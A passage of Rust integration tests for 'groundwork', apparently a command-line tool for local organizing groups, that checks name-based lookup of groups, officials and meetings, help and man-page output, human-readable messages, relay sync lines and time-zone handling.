fn names_and_their_starts_stand_for_ids_and_ambiguity_lists_the_candidates() -> TestResult {
    let dir = tempfile::tempdir()?;
    let gw = Gw { data: dir.path() };
    gw.json(&["init", "--name", "Lead"])?;
    // `group create` says the name and the id; its JSON gains the name.
    let said = text(
        &gw,
        &["group", "create", "--name", "Riverside Freedom City"],
    )?;
    let riverside = said
        .strip_prefix("created Riverside Freedom City (")
        .and_then(|rest| rest.strip_suffix(")\n"))
        .ok_or(format!("{said:?}"))?
        .to_owned();
    let north = gw.json(&["group", "create", "--name", "Riverside North"])?;
    assert_eq!(north["name"], "Riverside North");
    let north = field(&north, "group_id")?;

    // A name's start, in any case; the whole name; the id and its start: the same group.
    for name in [
        "riverside f",
        "RIVERSIDE FREEDOM CITY",
        riverside.as_str(),
        &riverside[..8],
    ] {
        let listed = gw.json(&["target", "list", name])?;
        assert_eq!(listed, Value::Array(Vec::new()), "{name}");
    }
    gw.json(&[
        "target",
        "add",
        "Riverside Freedom",
        "--name",
        "Sheriff Example",
        "--title",
        "Sheriff",
    ])?;
    assert_eq!(
        gw.json(&["target", "list", &riverside])?[0]["name"],
        "Sheriff Example"
    );

    // Several fit: an error listing each with its name and id; nothing is changed.
    let err = gw.fails(&["target", "add", "riverside", "--name", "X", "--title", "Y"])?;
    assert!(
        err.contains("\"riverside\" could be any of 2 groups"),
        "{err}"
    );
    assert!(
        err.contains(&format!("Riverside Freedom City ({riverside})"))
            && err.contains(&format!("Riverside North ({north})")),
        "{err}"
    );
    assert_eq!(
        gw.json(&["target", "list", &north])?,
        Value::Array(Vec::new())
    );
    // None fits: the error says what there is.
    let err = gw.fails(&["meeting", "list", "austin"])?;
    assert!(
        err.contains("no group with id \"austin\" on this device")
            && err.contains(&format!(
                "the groups here: Riverside Freedom City ({riverside})"
            )),
        "{err}"
    );

    // Officials, meetings and action items by name too.
    let meeting = field(
        &gw.json(&[
            "meeting",
            "create",
            "riverside freedom",
            "--kind",
            "official",
            "--title",
            "Ask the sheriff",
            "--target",
            "sheriff",
        ])?,
        "meeting_id",
    )?;
    gw.json(&["meeting", "agenda", "ask the", "--add", "Question 1"])?;
    assert_eq!(
        gw.json(&["meeting", "status", "Ask the sheriff", "held"])?["meeting_id"],
        meeting.as_str()
    );
    let recorded = gw.json(&[
        "response",
        "record",
        "Riverside Freedom City",
        "--target",
        "Sheriff Ex",
        "--rule",
        "R1",
        "--existing",
        "none",
        "--position",
        "will-support",
        "--meeting",
        "ask",
    ])?;
    let target = field(&recorded, "target_id")?;
    let card = gw.json(&["scorecard", "riverside f", "--target", "sheriff example"])?;
    assert_eq!(card[0]["position"], "will-support");
    assert_eq!(card[0]["target_id"], target.as_str());
    let action = field(
        &gw.json(&["action", "add", "riverside f", "--title", "Mail the rules"])?,
        "action_id",
    )?;
    assert_eq!(
        gw.json(&["action", "done", "mail"])?["action_id"],
        action.as_str()
    );
    // A meeting typed without its group may be in any: several fitting are told apart by
    // their groups.
    let other = field(
        &gw.json(&[
            "meeting",
            "create",
            &north,
            "--kind",
            "organizing",
            "--title",
            "Ask around",
        ])?,
        "meeting_id",
    )?;
    let err = gw.fails(&["meeting", "show", "ask"])?;
    assert!(
        err.contains(&format!(
            "Ask the sheriff in Riverside Freedom City ({meeting})"
        )) && err.contains(&format!("Ask around in Riverside North ({other})")),
        "{err}"
    );
    // Ids work exactly as before.
    assert_eq!(
        gw.json(&["meeting", "show", &other])?["title"],
        "Ask around"
    );
    assert_eq!(gw.json(&["meeting", "show", &meeting])?["status"], "held");
    Ok(())
}

#[test]
fn help_lists_commands_by_who_uses_them_and_the_manual_names_only_pages_it_writes() -> TestResult {
    let dir = tempfile::tempdir()?;
    let gw = Gw { data: dir.path() };
    let help = text(&gw, &["--help"])?;
    let headings = [
        "Everyone:",
        "Leads and members: the group's plan:",
        "Leads:",
        "Campaign staff:",
        "Maintenance:",
        "Global options:",
    ];
    let mut at = 0;
    for heading in headings {
        let found = help[at..]
            .find(&format!("\n{heading}\n"))
            .ok_or(format!("no {heading:?} (in order) in:\n{help}"))?;
        at += found + 1;
    }
    // Each command once, under its heading; the global options once.
    for line in ["  join ", "  invite ", "  campaign ", "  completions "] {
        assert_eq!(help.matches(line).count(), 1, "{line:?} in:\n{help}");
    }
    assert_eq!(help.matches("--data <DIR>").count(), 1, "{help}");
    assert!(!help.contains("{\""), "a developer's note in:\n{help}");
    // A command's own help keeps the global options apart from its own.
    let sub = text(&gw, &["invite", "create", "--help"])?;
    assert!(sub.contains("Prints the join link"), "{sub}");
    assert!(
        sub.contains("the role, how many devices may use it and until when"),
        "{sub}"
    );
    let global = sub.find("Global options:").ok_or(sub.clone())?;
    assert!(sub[global..].contains("--json"), "{sub}");
    assert!(!sub[..global].contains("--json"), "{sub}");

    // `man` names pages; `man --dir` writes every one it names.
    let pages = dir.path().join("man1");
    text(&gw, &["man", "--dir", &pages.to_string_lossy()])?;
    let main = std::fs::read_to_string(pages.join("groundwork.1"))?;
    assert_eq!(main, text(&gw, &["man"])?);
    assert!(!main.contains("groundwork\\-help"), "names a help page");
    let mut named = 0;
    for page in std::fs::read_dir(&pages)? {
        let roff = std::fs::read_to_string(page?.path())?;
        // Page references are written `groundwork\-invite\-create(1)`.
        for word in roff.split_whitespace() {
            if let Some(name) = word.strip_suffix("(1)") {
                let file = format!("{}.1", name.replace("\\-", "-"));
                assert!(pages.join(&file).exists(), "{word} names no page {file}");
                named += 1;
            }
        }
    }
    assert!(named > 20, "only {named} pages named");
    let create = text(&gw, &["man", "invite", "create"])?;
    assert!(
        create.contains(".TH groundwork-invite-create 1"),
        "{create}"
    );
    assert!(gw.fails(&["man", "invite", "nope"])?.contains("no command"));
    Ok(())
}

#[test]
fn outputs_say_names_counts_and_what_a_command_did_not_do() -> TestResult {
    let dir = tempfile::tempdir()?;
    let gw = Gw { data: dir.path() };
    let me = gw.json(&["init", "--name", "Ana"])?;
    assert_eq!(
        text(&gw, &["whoami", "--id"])?,
        format!("{}\n", field(&me, "device_id")?)
    );
    let group = field(
        &gw.json(&["group", "create", "--name", "Riverside"])?,
        "group_id",
    )?;

    // A default name from the office and the county is not followed by the title again.
    gw.json(&[
        "target",
        "add",
        "Riverside",
        "--county",
        "06065",
        "--office",
        "sheriff",
    ])?;
    let listed = text(&gw, &["target", "list", "Riverside"])?;
    let added = text(
        &gw,
        &[
            "target",
            "add",
            "Riverside",
            "--name",
            "A",
            "--title",
            "Mayor",
        ],
    )?;
    assert!(added.starts_with("added A, Mayor ("), "{added}");
    assert!(listed.contains("  Sheriff of Riverside, CA  "), "{listed}");
    assert!(!listed.contains("CA, Sheriff"), "{listed}");
    gw.json(&[
        "meeting",
        "create",
        "Riverside",
        "--kind",
        "official",
        "--title",
        "Ask",
        "--target",
        "sheriff",
    ])?;
    let shown = text(&gw, &["meeting", "show", "Ask"])?;
    assert!(
        shown.contains("with:  Sheriff of Riverside, CA\n"),
        "{shown}"
    );

    // A draft made public says when it reaches the public map.
    let said = text(&gw, &["meeting", "share", "Ask", "public"])?;
    assert!(said.starts_with("Ask: public\n"), "{said}");
    assert!(
        said.contains("it is a draft; it appears on the public map once scheduled"),
        "{said}"
    );
    let shared = gw.json(&["meeting", "share", "Ask", "public"])?;
    assert_eq!(shared["on_public_map"], false);

    // An answer from an official without a county stays in the group, and says so.
    gw.json(&[
        "target",
        "add",
        "Riverside",
        "--name",
        "Chief Example",
        "--title",
        "Chief",
    ])?;
    let said = text(
        &gw,
        &[
            "response",
            "record",
            "Riverside",
            "--target",
            "chief",
            "--rule",
            "R2",
            "--existing",
            "none",
            "--position",
            "opposes",
        ],
    )?;
    assert!(
        said.starts_with("Chief Example, Chief R2: none / opposes\n"),
        "{said}"
    );
    assert!(
        said.contains("this official has no county, so the answer stays in the group"),
        "{said}"
    );
    let by_county = gw.json(&[
        "response",
        "record",
        "Riverside",
        "--target",
        "sheriff",
        "--rule",
        "R2",
        "--existing",
        "none",
        "--position",
        "will-consider",
    ])?;
    assert_eq!(by_county["shared_with_campaign"], true);

    // The consent error names the flag; the export names the canvasser; counts agree.
    let err = gw.fails(&[
        "contact",
        "log",
        "Riverside",
        "--result",
        "talked",
        "--name",
        "Sam",
    ])?;
    assert!(err.contains("pass --consent"), "{err}");
    gw.json(&["contact", "log", "Riverside", "--result", "not-home"])?;
    let csv = dir.path().join("contacts.csv");
    let said = text(
        &gw,
        &["contact", "export", "riv", "--csv", &csv.to_string_lossy()],
    )?;
    assert!(said.starts_with("1 contact written to "), "{said}");
    let rows = csv_rows(&csv)?;
    let col = |name: &str| {
        rows[0]
            .iter()
            .position(|h| h == name)
            .ok_or(name.to_owned())
    };
    assert_eq!(col("canvasser_name")?, col("canvasser")? + 1);
    assert_eq!(rows[1][col("canvasser_name")?], "Ana");
    assert_eq!(rows[1][col("canvasser")?], field(&me, "device_id")?);
    let said = text(&gw, &["group", "retention", "riv", "1"])?;
    assert_eq!(
        said,
        "Riverside keeps 1 month of contacts (0 contacts exported)\n"
    );

    // An invite says what it admits, after the link.
    let said = text(
        &gw,
        &[
            "invite",
            "create",
            "Riverside",
            "--role",
            "member",
            "--uses",
            "1",
            "--relay",
            "wss://relay.example.org/v1/sync",
        ],
    )?;
    let lines: Vec<&str> = said.lines().collect();
    assert!(
        lines[0].starts_with("https://relay.example.org/join#gw1."),
        "{said}"
    );
    assert!(
        lines[1].starts_with("admits 1 device as member to Riverside, until "),
        "{said}"
    );

    // A canvasser's device holds the brief, not the answers: the scorecard says so.
    let phone = dir.path().join("canvasser");
    let canvasser = Gw { data: &phone };
    canvasser.json(&["init", "--name", "Cam"])?;
    {
        let key = groundwork_core::store::StoreKey::read_file(&phone.join("store.key"))?;
        let mut device = groundwork_core::Device::open(&phone, &key)?;
        device.joined_group(&group, groundwork_core::identity::Role::Canvasser)?;
    }
    let err = canvasser.fails(&["scorecard", &group])?;
    assert!(
        err.contains("the officials' answers are not on this device")
            && err.contains("canvasser's device holds the group's brief"),
        "{err}"
    );
    Ok(())
}

#[cfg(unix)]
#[test]
fn a_running_sync_prints_lines_a_person_reads() -> TestResult {
    use std::io::{BufRead, BufReader};
    let dir = tempfile::tempdir()?;
    let gw = Gw { data: dir.path() };
    gw.json(&["init", "--name", "Ana"])?;
    // Nothing listens there: the sync says it cannot reach it, and when it tries again.
    let closed = std::net::TcpListener::bind("127.0.0.1:0")?.local_addr()?;
    let relay = format!("ws://{closed}/v1/sync");
    let mut child = Command::new(env!("CARGO_BIN_EXE_groundwork"))
        .arg("--data")
        .arg(dir.path())
        .args(["sync", "--relay", &relay, "--timeout", "2"])
        .env_remove("GROUNDWORK_DATA")
        .env("TZ", "America/Chicago")
        .stdout(std::process::Stdio::piped())
        .spawn()?;
    let stdout = child.stdout.take().ok_or("no stdout")?;
    let mut lines = BufReader::new(stdout).lines();
    let mut seen = Vec::new();
    for line in lines.by_ref() {
        let line = line?;
        let waiting = line.contains("cannot reach");
        seen.push(line);
        if waiting {
            break;
        }
    }
    Command::new("kill")
        .args(["-TERM", &child.id().to_string()])
        .status()?;
    seen.extend(lines.map_while(Result::ok));
    child.wait()?;
    let clock = |l: &str| {
        let b = l.as_bytes();
        b.len() > 10
            && b[2] == b':'
            && b[5] == b':'
            && l[..8].chars().all(|c| c == ':' || c.is_ascii_digit())
    };
    assert!(
        seen[0].ends_with(&format!("  connecting to {relay}")),
        "{seen:?}"
    );
    let waiting = seen
        .iter()
        .find(|l| l.contains("cannot reach"))
        .ok_or("no waiting line")?;
    assert!(waiting.contains("; trying again at "), "{waiting}");
    for line in seen.iter().filter(|l| *l != "sync stopped") {
        assert!(clock(line), "{line:?} does not start with a clock");
        assert!(!line.contains('{'), "{line:?} is JSON");
    }
    assert_eq!(
        seen.last().map(String::as_str),
        Some("sync stopped"),
        "{seen:?}"
    );
    Ok(())
}

#[test]
fn a_group_zone_places_meetings_without_a_county_and_a_bad_zone_is_named() -> TestResult {
    let dir = tempfile::tempdir()?;
    let gw = Gw { data: dir.path() };
    gw.json(&["init", "--name", "Lead"])?;
    gw.json(&["group", "create", "--name", "Desert Freedom City"])?;
    let set = gw.json(&["group", "zone", "Desert", "America/Phoenix"])?;
    assert_eq!(set["zone"], "America/Phoenix");
    let meeting = field(
        &gw.json(&[
            "meeting",
            "create",
            "Desert",
            "--kind",
            "organizing",
            "--title",
            "First meeting",
            "--at",
            "2026-07-01T18:30",
        ])?,
        "meeting_id",
    )?;
    let shown = gw.json(&["meeting", "show", &meeting])?;
    assert_eq!(shown["zone"], "America/Phoenix", "{shown}");
    // 18:30 in Phoenix (no daylight saving) is 01:30 the next day in UTC.
    assert_eq!(shown["at"], "2026-07-02T01:30:00Z", "{shown}");
    let err = gw.fails(&["group", "zone", "Desert", "Mars/Olympus"])?;
    assert!(err.contains("Mars/Olympus"), "{err}");
    // `default` goes back to the jurisdiction's (none here: UTC).
    let back = gw.json(&["group", "zone", "Desert", "default"])?;
    assert!(back["zone"].is_null(), "{back}");
    Ok(())
}
